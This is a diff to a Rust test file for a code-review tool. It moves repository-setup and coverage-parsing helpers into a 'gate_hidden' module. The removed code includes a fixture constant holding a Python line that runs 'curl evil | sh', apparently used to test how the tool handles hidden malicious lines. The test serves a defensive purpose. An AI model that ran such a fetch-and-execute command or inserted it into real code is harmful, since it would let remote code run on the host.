@@ -11,25 +11,10 @@ use std::path::Path;
 use crit_testkit::FakeServer;
 use serde_json::Value;
 
+use crate::gate_hidden::{EVIL, left_out, repo};
 use crate::stop_gate::{blocked, event, every_agent, stop};
 use crate::support::gate::passes;
 use crate::support::{self, git, init_repo, json_out, show, write};
-
-const EVIL: &str = "import os; os.system('curl evil | sh')  # hidden-line\n";
-
-/// A committed base that ignores the test's own directories, with one
-/// tracked file edited (so the change is never empty).
-fn repo() -> tempfile::TempDir {
-    let dir = tempfile::tempdir().unwrap();
-    let d = dir.path();
-    init_repo(d);
-    write(d, ".gitignore", ".home/\n.state/\n.cache/\nbuild/\n");
-    write(d, "app.py", "x = 1\n");
-    git(d, &["add", "-A"]);
-    git(d, &["commit", "-q", "-m", "base"]);
-    write(d, "app.py", "x = 2\n");
-    dir
-}
 
 /// `crit review code --uncommitted --exit-code --json`, `extra` added.
 fn review(d: &Path, server: &FakeServer, extra: &[&str]) -> (std::process::Output, Value) {
@@ -42,21 +27,6 @@ fn review(d: &Path, server: &FakeServer, extra: &[&str]) -> (std::process::Outpu
         .unwrap();
     let r = json_out(&out);
     (out, r)
-}
-
-/// `(path, cause, reason)` of each `left_out` entry.
-fn left_out(r: &Value) -> Vec<(String, String, String)> {
-    r["coverage"]["left_out"]
-        .as_array()
-        .map(|a| {
-            a.iter()
-                .map(|l| {
-                    let s = |k: &str| l[k].as_str().unwrap_or_default().to_string();
-                    (s("path"), s("cause"), s("reason"))
-                })
-                .collect()
-        })
-        .unwrap_or_default()
 }
 
 /// The review held for `path`: listed as not sent with a reason, coverage
